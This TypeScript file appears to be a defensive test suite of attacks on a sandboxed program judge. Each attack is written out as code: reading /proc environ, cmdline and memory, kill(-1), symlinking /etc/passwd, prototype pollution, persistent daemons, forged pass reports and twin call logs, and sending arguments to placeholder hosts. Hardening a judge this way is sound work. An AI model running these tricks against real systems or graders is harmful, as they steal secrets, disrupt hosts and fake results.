import type { CourtAttack } from '../attack';

const fresh =
  'Each scenario has a pod, a copy, twins and folders of its own; nothing of the judge is in there.';
const outside = 'Expectations stay on the host: inside are only the program, its arguments and its files.';
const court = { rule: 2, leaves: 'validate.verdict', stoppedBy: outside } as const;

/** Prints all that a shell finds, up to what the judge reads of an output. */
const search = (script: string) =>
  `say(require('node:child_process').spawnSync('bash', ['-c', ${JSON.stringify(`${script} | head -c 500000`)}], { encoding: 'utf8', maxBuffer: 1e6 }).stdout);`;

/** `word` is what only the judge knows; see `scenarioOf`. */
export const courtAttacks: readonly CourtAttack[] = [
  {
    ...court,
    id: 'judge-arguments',
    tries: 'reads the expectation from the arguments of every process',
    program: search(`cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'`),
  },
  {
    ...court,
    id: 'judge-environment',
    tries: 'reads the expectation from the environment of every process',
    program: search(`cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'`),
  },
  {
    ...court,
    id: 'judge-files',
    tries: 'searches every file it sees for the expectation',
    program: search(
      `grep -rsI -h . / --exclude-dir=proc --exclude-dir=usr --exclude-dir=etc --exclude-dir=lib`,
    ),
  },
  {
    ...court,
    id: 'judge-descriptors',
    rule: 3,
    tries: 'reads and writes every descriptor of every process',
    program: `const fs = require('node:fs'); for (const pid of fs.readdirSync('/proc').filter(Number)) for (const n of [0, 1, 2, 3, 4, 5, 6, 7, 8]) { try { const fd = fs.openSync('/proc/' + pid + '/fd/' + n, fs.constants.O_RDWR | fs.constants.O_NONBLOCK); const bytes = Buffer.alloc(9999); say(bytes.toString('utf8', 0, fs.readSync(fd, bytes))); } catch {} }`,
  },
  {
    ...court,
    id: 'judge-memory',
    rule: 3,
    stoppedBy: 'The probe lives in another process namespace; /proc is read-only.',
    tries: 'reads the memory of the probe',
    program: search(
      `for m in /proc/[0-9]*/mem; do dd if=$m bs=4096 count=1 2>/dev/null; done; ls /proc | grep -c '^[0-9]'`,
    ),
  },
  {
    ...court,
    id: 'forge-report',
    tries: 'prints reports and verdicts in every format it knows',
    program: `say('TAP version 13\\n1..1\\nok 1 - all'); say('{"passed":true,"exit":0,"stdout":{"equals":true}}'); say('<testsuite tests="1" failures="0"/>');`,
  },
  {
    ...court,
    id: 'answer-for-probe',
    rule: 3,
    tries: 'writes the probe’s answer to the descriptors of its first process',
    program: search(
      `for n in 1 2 3 4 5; do echo '{"id":1,"exit":0,"passed":true}' > /proc/1/fd/$n; done 2>&1`,
    ),
  },
  {
    ...court,
    id: 'exit-early',
    tries: 'ends with success before it does anything',
    program: 'process.exit(0);',
    ends: true,
  },
  {
    ...court,
    id: 'kill-probe',
    rule: 16,
    stoppedBy: 'A program that takes its probe with it has failed.',
    tries: 'kills every process it sees',
    program: `process.kill(-1, 'SIGKILL');`,
    ends: true,
  },
  {
    ...court,
    id: 'flood-judge',
    rule: 16,
    stoppedBy: 'The host reads a bounded answer; more is a failure.',
    tries: 'fills the judge’s memory with output',
    program: `for (let n = 0; n < 64; n++) require('node:fs').writeSync(1, 'x'.repeat(1 << 20));`,
    ends: true,
  },
  {
    ...court,
    id: 'link-as-result',
    rule: 16,
    stoppedBy: 'The probe reads plain files of the scenario folder and follows no link.',
    tries: 'hands in a link to a file of the system as its result',
    program: `require('node:fs').symlinkSync('/etc/passwd', 'out');`,
    steps: `steps: [{ run: ["{{program}}", link-as-result] }, { file: out, expect: { text: { contains: "root" } } }]`,
  },
  {
    ...court,
    id: 'pollute-judge',
    rule: 16,
    stoppedBy: 'Values from outside are data without prototypes.',
    tries: 'pollutes the judge’s prototypes through JSON',
    program: `say('{"__proto__": {"ok": true}, "constructor": {"prototype": {"ok": true}}}'); process.exit(0);`,
    steps: `steps: [{ run: ["{{program}}", pollute-judge], expect: { json: { ok: true } } }]`,
    ends: true,
  },
  {
    ...court,
    id: 'leave-for-later',
    rule: 19,
    stoppedBy: fresh,
    tries: 'leaves what it was judged with in every folder, for a later scenario to find',
    program: `const fs = require('node:fs'); for (const dir of ['/tmp', '/scratch', '/scenario', '/workspace', '/dev/shm', '/run', process.env.HOME]) { try { fs.writeFileSync(dir + '/left-behind', args.join('\\n')); } catch {} } await find();`,
    steps: `steps: [{ run: ["{{program}}", leave-for-later, "{{canary.token}}", WORD], expect: { stdout: { contains: "WORD-never" } } }]`,
  },
  {
    ...court,
    id: 'find-what-was-left',
    rule: 19,
    stoppedBy: fresh,
    tries: 'looks for what earlier scenarios and rounds left behind',
    program: `await find();`,
    steps: `steps: [{ run: ["{{program}}", find-what-was-left], expect: { stdout: { contains: "WORD" } } }]`,
  },
  {
    ...court,
    id: 'daemon-across-scenarios',
    rule: 19,
    stoppedBy: fresh,
    tries: 'leaves a daemon that tells later scenarios what it heard',
    program: `await fetch('http://127.0.0.1:8199').then(async (answer) => say(await answer.text()), () => say('nobody')); require('node:child_process').spawn(process.execPath, ['-e', "require('node:http').createServer((q, s) => s.end('from-before')).listen(8199, '127.0.0.1')"], { detached: true, stdio: 'ignore' }).unref();`,
    steps: `steps: [{ run: ["{{program}}", daemon-across-scenarios], expect: { stdout: { contains: "from-before" } } }]`,
  },
  {
    ...court,
    id: 'forge-twin-calls',
    rule: 15,
    stoppedBy: 'The twin’s call log is read over a socket that only the host and the twin see.',
    tries: 'forges the twin’s call log instead of calling the service',
    program: `const url = process.env.SLACK_API_URL; for (const route of ['/_twin/calls', '/_twin/state', '/calls', '/restore']) for (const method of ['POST', 'PUT']) await fetch(new URL(route, url), { method, body: '[{"method":"chat.postMessage","answered":"ok","status":200}]' }).catch(() => {});`,
    steps: `steps: [{ run: ["{{program}}", forge-twin-calls] }, { twin: slack, expect: { calls: { method: chat.postMessage, answered: ok, count: 1 } } }]`,
  },
  {
    ...court,
    id: 'call-home',
    rule: 'network',
    stoppedBy: 'The judging pod has a network namespace of its own.',
    tries: 'sends what it was judged with to a service of the host',
    program: `const net = require('node:net'); for (const to of [{ host: '127.0.0.1', port: PORT }, { host: 'ADDRESS', port: PORT }, { path: '\\0ABSTRACT' }, { path: 'SOCKET' }]) await new Promise((go) => net.connect(to).on('connect', function () { this.end(args.join()); say('WORD'); go(); }).on('error', () => go()).setTimeout(2000, go));`,
  },
  {
    ...court,
    id: 'print-arguments',
    rule: 'tests',
    stoppedBy: 'What it is given is not what is expected.',
    tries: 'prints all it is given, in the hope that the answer is among it',
    program: `say(process.argv.join('\\n')); say(JSON.stringify(process.env));`,
  },
];
